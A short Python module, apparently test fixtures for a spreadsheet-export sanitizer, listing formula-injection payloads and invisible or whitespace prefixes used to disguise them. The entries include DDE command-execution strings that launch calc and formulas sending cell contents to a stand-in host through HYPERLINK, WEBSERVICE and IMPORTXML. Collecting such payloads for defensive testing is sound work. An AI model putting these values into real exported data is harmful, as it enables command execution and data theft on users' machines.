"""Texts that a spreadsheet could take for formulas, as somebody might type them who wants to do harm."""

from typing import Final

COMMANDS: Final = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=IMPORTXML(CONCAT("http://192.0.2.1/?", A1), "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
    "+",
    "-",
    "@",
)
BEFORE: Final = (
    "",
    " ",
    "   ",
    "\ufeff",
    "\u200b",
    "\u00a0",
    "\u202e",
    "\u2060 \u200d",
    "fine\n",
    "fine\r\n",
    "fine\r",
    "a\u2028",
)
